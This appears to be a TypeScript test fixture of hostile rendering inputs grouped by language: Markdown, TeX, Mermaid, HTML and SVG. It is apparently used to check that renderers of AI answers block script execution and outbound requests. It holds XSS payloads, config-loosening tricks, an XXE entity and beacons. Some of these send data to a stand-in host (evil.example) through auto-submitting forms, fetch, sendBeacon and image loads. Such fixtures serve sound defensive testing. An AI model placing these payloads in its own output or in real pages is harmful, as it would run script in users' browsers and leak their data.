/** Where every entry would like to go. Nothing listens there; a request is noticed before it leaves. */
const EVIL = 'http://evil.example';
const RUN = 'alert(document.domain)';

const fenced = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\``;

/** Markdown that runs, loads or leads somewhere in careless products. */
const MARKDOWN = [
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](java\nscript:${RUN})`,
  `[click](&#106;avascript:${RUN})`,
  `[click](\u0001javascript:${RUN})`,
  `[click](vbscript:msgbox(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `<javascript:${RUN}>`,
  `![x](${EVIL}/pixel.png?secret)`,
  `![x][beacon]\n\n[beacon]: ${EVIL}/reference.png`,
  `![x](//evil.example/relative.png)`,
  `![x](data:image/svg+xml,%3Csvg onload=alert(1)%3E)`,
  `[![x](${EVIL}/nested.png)](${EVIL}/go)`,
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img srcset="${EVIL}/srcset.png 2x">`,
  `<svg onload="${RUN}"><image href="${EVIL}/a.png"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  `<link rel="stylesheet" href="${EVIL}/s.css"><link rel="prefetch" href="${EVIL}/p">`,
  `<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="${EVIL}">`,
  `<style>@import url(${EVIL}/i.css); body{background:url(${EVIL}/b.png)}</style>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/m">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/f"><button autofocus onfocus="${RUN}">Go</button></form>`,
  `<video src="${EVIL}/v" poster="${EVIL}/p" onerror="${RUN}" autoplay></video>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<a href="${EVIL}" ping="${EVIL}/ping">x</a>`,
  `Note[^1]\n\n[^1]: ![x](${EVIL}/note.png) <img src=x onerror=${RUN}>`,
  `| ![x](${EVIL}/cell.png) | [x](javascript:${RUN}) |\n|---|---|\n| <img src=x onerror=${RUN}> | a |`,
];

/** TeX that links, loads, runs, or never ends. */
const TEX = [
  `$\\href{javascript:${RUN}}{x}$`,
  `$\\href{${EVIL}/href}{x}$`,
  `$\\url{javascript:${RUN}}$`,
  `$\\includegraphics{${EVIL}/tex.png}$`,
  `$\\htmlData{x=" onmouseover="${RUN}}{x}$`,
  `$\\htmlClass{x" onload="${RUN}}{x}$`,
  `$\\htmlId{x}{x} + \\htmlStyle{background:url(${EVIL}/style.png)}{x}$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `$\\unicode{<script>${RUN}</script>}$`,
  `$$\n\\def\\a{\\a\\a}\\a\n$$`,
  `$\\rule{9999999em}{9999999em}$`,
  `$${'{'.repeat(4000)}$`,
  `$\\color{red;background:url(${EVIL}/color.png)}x$`,
];

/** Mermaid that links, runs, loosens its own settings, or loads. */
const MERMAID = [
  `flowchart TD\n  A[x] --> B\n  click A "javascript:${RUN}"`,
  `flowchart TD\n  A[x] --> B\n  click A call alert(1)`,
  `flowchart TD\n  A[x]\n  click A href "${EVIL}/click" _top`,
  `%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart TD\n  A["<img src=x onerror=${RUN}>"]`,
  `%%{init: {"themeCSS": "* { background: url(${EVIL}/theme.png) } @import url(${EVIL}/t.css);"}}%%\nflowchart TD\n  A --> B`,
  `%%{init: {"themeVariables": {"fontFamily": "x; } @import url(${EVIL}/font.css); * {"}}}%%\nflowchart TD\n  A --> B`,
  `%%{init: {"__proto__": {"securityLevel": "loose"}, "constructor": {"prototype": {"x": 1}}}}%%\nflowchart TD\n  A --> B`,
  `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  fontFamily: "x;}</style><script>${RUN}</script>"\n---\nflowchart TD\n  A["<iframe src='${EVIL}/label'></iframe>"]`,
  `flowchart TD\n  A["<a href='javascript:${RUN}'>x</a><svg onload='${RUN}'>"]`,
  `flowchart TD\n  A@{ img: "${EVIL}/shape.png", label: "x", h: 60 }`,
  `flowchart TD\n  A:::evil\n  classDef evil fill:url(${EVIL}/fill.svg#a),background:url(${EVIL}/class.png)`,
  `flowchart TD\n  A\n  style A fill:#fff,stroke:url(${EVIL}/stroke.svg)`,
  `sequenceDiagram\n  participant A as <img src=x onerror=${RUN}>\n  links A: {"x": "javascript:${RUN}"}\n  A->>A: <script>${RUN}</script>`,
  `classDiagram\n  class A["<foreignObject><img src=x onerror=${RUN}></foreignObject>"]\n  link A "javascript:${RUN}"\n  callback A "alert"`,
  `gantt\n  title x\n  section s\n  t :a1, 2026-01-01, 1d\n  click a1 call alert(1)`,
  `stateDiagram-v2\n  [*] --> A : <img src=${EVIL}/state.png>`,
  `flowchart TD\n  A["$$\\href{javascript:${RUN}}{x}$$"]`,
];

/** Pages that run, load, leave, or reach for ours. */
const HTML = [
  `<script>top.location = '${EVIL}/top'; parent.${RUN}; fetch('${EVIL}/fetch')</script>`,
  `<img src=x onerror="${RUN}"><body onload="${RUN}">`,
  `<img src="${EVIL}/img.png"><img srcset="${EVIL}/set.png 1x"><picture><source srcset="${EVIL}/src.png"></picture>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<base href="${EVIL}/"><img src="based.png"><a id="a" href="go" autofocus>x</a>`,
  `<link rel="stylesheet" href="${EVIL}/s.css"><link rel="prefetch" href="${EVIL}/pre"><link rel="preload" as="image" href="${EVIL}/load.png"><link rel="modulepreload" href="${EVIL}/m.js">`,
  `<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="${EVIL}"><link rel="icon" href="${EVIL}/icon.png">`,
  `<style>@import "${EVIL}/import.css"; @font-face{font-family:x;src:url(${EVIL}/font.woff2)} *{background:url(${EVIL}/css.png);font-family:x}</style>x`,
  `<iframe src="${EVIL}/inner"></iframe><iframe srcdoc="<img src='${EVIL}/srcdoc.png'><script>${RUN}</script>"></iframe><iframe src="/api/me"></iframe>`,
  `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><applet code="${EVIL}/applet"></applet>`,
  `<form id="f" action="${EVIL}/form" method="post"><input name="q" value="secret" autofocus></form><script>f.submit()</script>`,
  `<video src="${EVIL}/video" poster="${EVIL}/poster.png" autoplay></video><audio src="${EVIL}/audio" autoplay></audio><track src="${EVIL}/track">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script src="${EVIL}/x.js"></script>`,
  `<script type="module">import '${EVIL}/module.js'</script><script>new WebSocket('ws://evil.example'); navigator.sendBeacon('${EVIL}/beacon'); open('${EVIL}/open'); new Worker('data:,')</script>`,
  `<template shadowrootmode="open"><img src="${EVIL}/shadow.png"></template><div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `</iframe></body></html><script>${RUN}</script>`,
];

/** SVG that does the same. */
const SVG = [
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${EVIL}/xlink.png"/><use xlink:href="${EVIL}/use.svg#a"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:${RUN}"><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="${RUN}"/><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><iframe src="${EVIL}/foreign"></iframe><img src=x onerror="${RUN}"/></foreignObject></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(${EVIL}/svg.css); rect{fill:url(${EVIL}/fill.svg#a)}</style><rect width="9" height="9"/><feImage href="${EVIL}/fe.png"/></svg>`,
  `<?xml-stylesheet href="${EVIL}/sheet.xsl"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}/entity">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
];

/** Answers that attack their reader, from known kinds of attack, by the language in which they are written. */
export const HOSTILE = {
  markdown: MARKDOWN,
  tex: TEX,
  mermaid: MERMAID.map((code) => fenced('mermaid', code)),
  html: HTML.map((code) => fenced('html', code)),
  svg: SVG.map((code) => fenced('svg', code)),
} as const;
